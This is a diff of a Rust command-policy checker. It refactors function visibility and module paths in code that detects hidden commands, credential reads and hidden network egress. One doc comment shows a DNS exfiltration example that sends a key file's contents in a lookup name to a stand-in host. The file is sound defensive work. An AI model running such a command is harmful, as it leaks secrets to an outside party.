@@ -12,9 +12,9 @@ use crate::decision::Decision;
 use crate::decision::Verdict;
 use crate::decision::effect::Effect;
 use crate::local::context::Context;
-use crate::local::options;
 use crate::local::policy::Part;
 use crate::local::spec::Kind;
+use crate::local::spec::options;
 use crate::rules::Rules;
 use crate::shell::{self, SimpleCommand, Word, WordKind};
 use std::path::Path;
@@ -48,7 +48,7 @@ const COMMAND_VARIABLES: &[&str] = &[
 /// found: no spec for it (no effects), a computed name, or an effect that runs something or
 /// that Tier 1 could not read. Anything else is uncertain for a reason of its own (a write
 /// outside the project, a send), and its words are not searched.
-pub(super) fn may_hide_a_command(cmd: &SimpleCommand, effects: &[Effect]) -> bool {
+pub(in crate::local) fn may_hide_a_command(cmd: &SimpleCommand, effects: &[Effect]) -> bool {
     effects.is_empty()
         || cmd
             .argv
@@ -70,7 +70,7 @@ pub(super) fn may_hide_a_command(cmd: &SimpleCommand, effects: &[Effect]) -> boo
 /// part's, naming the inner command. Its words are searched only in the call's own commands
 /// (`top`), not again in what they embed. Otherwise, for a program or subcommand without a spec, or
 /// one its spec sends to review, what its words name is added to its effects for the fail path.
-pub(super) fn check(
+pub(in crate::local) fn check(
     cmd: &SimpleCommand,
     part: &mut Part,
     rules: &Rules,
@@ -138,7 +138,7 @@ pub(super) fn check(
         return;
     }
     if reviewed || unknown {
-        let cwd = crate::local::judge::effective_cwd(cmd, ctx);
+        let cwd = crate::local::policy::judge::effective_cwd(cmd, ctx);
         part.effects
             .extend(risky_words(cmd, &texts, cwd.as_deref(), rules, ctx));
     }
@@ -226,7 +226,7 @@ fn judge_each(
 /// network request whose destination is built from command output (`dig $(cat key).x.example`
 /// sends the output in the name it looks up). With a credential read in the same call, the call
 /// is denied.
-pub(super) fn hidden_egress(cmd: &SimpleCommand, effects: &[Effect]) -> Option<String> {
+pub(in crate::local) fn hidden_egress(cmd: &SimpleCommand, effects: &[Effect]) -> Option<String> {
     if let Some(r) = cmd
         .redirects
         .iter()
@@ -366,7 +366,7 @@ fn risky_words(
             continue;
         };
         for p in found {
-            if crate::local::credentials::credential(&p, rules).is_some() {
+            if crate::local::paths::credentials::credential(&p, rules).is_some() {
                 out.push(unknown(format!("`{value}` is a credential")));
             } else if !p.starts_with(ctx.project()) {
                 out.push(unknown(format!("`{value}` is outside the project")));
